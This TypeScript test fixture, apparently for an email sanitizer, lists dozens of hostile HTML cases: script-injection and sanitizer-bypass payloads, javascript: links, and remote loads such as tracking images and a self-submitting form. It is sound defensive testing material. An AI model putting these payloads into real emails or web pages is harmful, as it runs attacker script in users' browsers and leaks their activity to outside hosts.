// Mails' HTML that means harm: what runs, what reaches out, what breaks out. RUN stands for a script, REMOTE for an address elsewhere.

export type Hostile = { name: string; html: string; click?: boolean }

const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='
const encoded = (text: string) => `data:text/html;base64,${Buffer.from(text).toString('base64')}`

const running: Record<string, string> = {
  'a script': '<script>RUN</script>',
  'a script from elsewhere': '<script src="REMOTE/x.js"></script>',
  'a module': '<script type="module">RUN</script>',
  'a script in capitals with a slash': '<SCRIPT/x>RUN</SCRIPT >',
  'a script in a script': '<scr<script>x</script>ipt>RUN</scr</script>ipt>',
  'a script without an end': '<script>RUN//',
  'a script behind a comment': '<!--><script>RUN</script>-->',
  'a script behind a half comment': '<!-- --!><script>RUN</script> -->',
  'a script in CDATA': '<![CDATA[><script>RUN</script>]]>',
  'a script in a conditional comment':
    '<!--[if true]><script>RUN</script><![endif]--><![if true]><script>RUN</script><![endif]>',
  'a script behind a null byte': '<scr\u0000ipt>RUN</scr\u0000ipt><img src=x on\u0000error=RUN>',
  'a broken picture': '<img src=x onerror=RUN>',
  'a broken picture, quoted oddly': '<img src="x`y" `onerror=RUN>',
  'a broken picture, slashes for spaces': '<img/src=x/onerror=RUN>',
  'a broken picture, line breaks': '<img\nsrc=x\nonerror\n=\nRUN>',
  'a handler in an attribute that breaks out': '<img alt="a" title="\'><img src=x onerror=RUN>">',
  'a picture with two sources': '<img src="data:image/png;base64,AA" src=x onerror=RUN>',
  'a picture in an unclosed attribute': '<img """><img src=x onerror=RUN>">',
  'a handler in an entity': '<img src=x &#111;nerror=RUN onerror="&#99;onsole.log(\'ran\')">',
  'a body with onload': '<body onload=RUN>',
  'a body with onpageshow': '</div></body><body onpageshow=RUN onfocus=RUN>',
  'an svg with onload': '<svg onload=RUN>',
  'an svg with onload, no space': '<svg/onload=RUN>',
  'a script in svg': '<svg><script>RUN</script></svg>',
  'a script in svg, entities': '<svg><script>&#99;onsole.log(&#39;ran&#39;)</script></svg>',
  'an svg that animates an address':
    '<svg><a><animate attributeName=href values="javascript:RUN" /><text y=20>x</text></a></svg>',
  'an svg animation that begins': '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  'an svg set that begins': '<svg><set onbegin=RUN attributeName=x to=1></svg>',
  'an svg use of data': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='RUN'/></svg>#x"></svg>`,
  'an svg foreign object': '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  'an svg as a picture': "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
  'an svg style that breaks out': '<svg><style><img src=x onerror=RUN></style></svg>',
  'mathml that breaks out':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  'mathml with a form in a form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
  'mathml with an annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  'mathml with a script': '<math><mi><script>RUN</script></mi></math>',
  'a select that hides a style': '<select><style></select><img src=x onerror=RUN></style></select>',
  'a noscript that breaks out': '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  'a title that breaks out': '<title><a title="</title><img src=x onerror=RUN>"></title>',
  'a textarea that breaks out': '<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>',
  'an xmp that breaks out': '<xmp><img title="</xmp><img src=x onerror=RUN>"></xmp>',
  'a noembed that breaks out': '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
  'an iframe text that breaks out': '<iframe><img title="</iframe><img src=x onerror=RUN>"></iframe>',
  'a plaintext': '<plaintext><img src=x onerror=RUN>',
  'a template with a shadow': '<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>',
  'a frame of script': '<iframe src="javascript:console.log(\'ran\')"></iframe>',
  'a frame of text': '<iframe srcdoc="<script>RUN</script>"></iframe>',
  'a frame of data': `<iframe src="${encoded('<script>console.log("ran")</script>')}"></iframe>`,
  'an object of data': `<object data="${encoded('<script>console.log("ran")</script>')}"></object>`,
  'an embed of data': `<embed src="${encoded('<script>console.log("ran")</script>')}">`,
  'a frameset': '<frameset onload=RUN><frame src="javascript:console.log(\'ran\')"></frameset>',
  'details that open': '<details open ontoggle=RUN>x</details>',
  'a video that fails': '<video><source onerror=RUN src=x></video>',
  'an audio that fails': '<audio src=x onerror=RUN></audio>',
  'a field that takes the focus': '<input autofocus onfocus=RUN>',
  'a marquee': '<marquee onstart=RUN>x</marquee>',
  'an element that takes the focus': '<p tabindex=1 autofocus onfocus=RUN>x</p>',
  'an animation that ends':
    '<style>@keyframes x{from{left:0}to{left:1px}}</style><b style="animation:x 1ms" onanimationend=RUN onanimationstart=RUN>x</b>',
  'a transition': '<style>:target{color:red}</style><b style="transition:color 1ms" ontransitionend=RUN id=x>x</b>',
  'a style sheet of script': '<link rel=stylesheet href="javascript:console.log(\'ran\')" onerror=RUN>',
  'a table cell unbalanced': '<table><td background="javascript:RUN"><caption><img src=x onerror=RUN>',
  'unclosed tags, deep': `${'<div><b>'.repeat(600)}<img src=x onerror=RUN>`,
  'an import map':
    '<script type="importmap">{"imports":{"x":"REMOTE/x.js"}}</script><script type=module>import "x"</script>',
  'a refresh to script': '<meta http-equiv=refresh content="0;url=javascript:console.log(\'ran\')">',
  'a refresh to data': `<meta http-equiv=refresh content="0;url=${encoded('<script>console.log("ran")</script>')}">`,
}

const clicked: Record<string, string> = {
  'a link of script': '<a href="javascript:console.log(\'ran\')">x</a>',
  'a link of script in capitals and tabs': '<a href="  JaVa\tScRi\npt:console.log(\'ran\')">x</a>',
  'a link of script in entities': '<a href="&#106;avascript&colon;console.log(\'ran\')">x</a>',
  'a link of script behind control characters': '<a href="\u0001\u0002javascript:console.log(\'ran\')">x</a>',
  'a link of VBScript and data': `<a href="vbscript:x">y</a><a href="${encoded('<script>console.log("ran")</script>')}">x</a>`,
  'a form that is a link': '<form action="javascript:console.log(\'ran\')"><button>x</button></form>',
  'a button with its own action':
    '<form></form><button form=f formaction="javascript:console.log(\'ran\')">x</button><form id=f></form>',
  'a handler on a link': '<a href="#" onclick=RUN onmouseover=RUN>x</a>',
  'an image map':
    '<img usemap="#m" width=50 height=50 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=rect coords=0,0,50,50 href="javascript:console.log(\'ran\')"></map>',
}

const reaching: Record<string, string> = {
  'a picture from elsewhere': '<img src="REMOTE/a.png">',
  'a picture over https': '<img src="https://pictures.example/b.png">',
  'a picture without a scheme': '<img src="//pictures.example/c.png">',
  'a picture by backslashes': '<img src="\\\\pictures.example\\d.png">',
  'a source set': `<img src="${pixel}" srcset="REMOTE/e.png 1x, REMOTE/f.png 2x">`,
  'a picture element': `<picture><source srcset="REMOTE/g.png"><img src="${pixel}"></picture>`,
  'a lazy picture': '<img loading=eager src="REMOTE/h.png" lowsrc="REMOTE/i.png" dynsrc="REMOTE/j.png">',
  'a picture that is an input': '<input type=image src="REMOTE/k.png">',
  'a picture that is misspelt': '<image src="REMOTE/l.png">',
  'a table background': '<table background="REMOTE/m.png"><tr><td background="REMOTE/n.png">x</td></tr></table>',
  'a body background': '<body background="REMOTE/o.png">',
  'a style with a picture': '<p style="background:url(REMOTE/p.png)">x</p>',
  'a style with a picture, escaped': '<p style="background:\\75\\72\\6c(REMOTE/q.png)">x</p>',
  'a style with a picture, commented':
    '<p style="background:u/**/rl(REMOTE/r.png);background-image:url(\'REMOTE/s.png\')">x</p>',
  'a style with an image set':
    '<p style="background-image:image-set(\'REMOTE/t.png\' 1x);content:url(REMOTE/u.png)">x</p>',
  'a style with a cursor, a list, a border':
    '<ul style="cursor:url(REMOTE/v.png),auto;list-style:url(REMOTE/w.png);border-image:url(REMOTE/x.png) 1"><li>x</ul>',
  'a style with a filter and a mask':
    '<p style="filter:url(REMOTE/y.svg#x);mask:url(REMOTE/z.svg);clip-path:url(REMOTE/0.svg#x);shape-outside:url(REMOTE/1.png);float:left">x</p>',
  'a style with variables': '<p style="--x:url(REMOTE/2.png);background:var(--x)">x</p>',
  'a style with expression and behaviour':
    '<p style="width:expression(RUN);behavior:url(REMOTE/3.htc);-moz-binding:url(REMOTE/4.xml#x)">x</p>',
  'a sheet that imports': '<style>@import "REMOTE/5.css";@import url(REMOTE/6.css);</style>',
  'a sheet with a font': '<style>@font-face{font-family:x;src:url(REMOTE/7.woff2)}p{font-family:x}</style><p>x</p>',
  'a sheet with a picture':
    '<style>p{background:url(REMOTE/8.png)}p::before{content:url(REMOTE/9.png)}</style><p>x</p>',
  'a linked sheet': '<link rel=stylesheet href="REMOTE/10.css">',
  'a preload':
    '<link rel=preload as=image href="REMOTE/11.png"><link rel=prefetch href="REMOTE/12"><link rel=modulepreload href="REMOTE/13.js"><link rel=icon href="REMOTE/14.ico">',
  'a base': '<base href="REMOTE/"><img src="15.png">',
  'a refresh': '<meta http-equiv=refresh content="0;url=REMOTE/16">',
  'a frame from elsewhere': '<iframe src="REMOTE/17"></iframe>',
  'an object from elsewhere':
    '<object data="REMOTE/18"></object><embed src="REMOTE/19"><applet code="REMOTE/20"></applet>',
  'a video with a poster': '<video poster="REMOTE/21.png" src="REMOTE/22.mp4" autoplay muted></video>',
  'a sound and its track':
    '<audio src="REMOTE/23.mp3" autoplay></audio><video><track default src="REMOTE/24.vtt"></video>',
  'an svg picture':
    '<svg><image href="REMOTE/25.png" xlink:href="REMOTE/26.png"/><feImage href="REMOTE/27.png"/></svg>',
  'an svg use': '<svg><use href="REMOTE/28.svg#x"/><style>@import "REMOTE/29.css"</style></svg>',
  'an svg in a picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='REMOTE/30.png'/></svg>">`,
  'a form that sends itself': '<form action="REMOTE/31" id=f><input name=x></form><script>f.submit()</script>',
  'a ping': '<a href="#x" ping="REMOTE/32">x</a>',
  'a style hidden in mathml': '<math><mtext><style><a title="</style><img src=REMOTE/33.png>">',
}

const list = (cases: Record<string, string>, click = false): Hostile[] =>
  Object.entries(cases).map(([name, html]) => ({ name, html, click }))

/** With the script and the address elsewhere put in; each says the number of its case, "ran7". */
export function hostileHtml(remote: string): Hostile[] {
  const whole = [...list(running), ...list(clicked, true), ...list(reaching)]
  return whole.map((one, at) => ({
    ...one,
    html: one.html
      .replaceAll('RUN', "console.log('ran')")
      .replaceAll("'ran'", `'ran${at}'`)
      .replaceAll('REMOTE', `${remote}/${at}`),
  }))
}
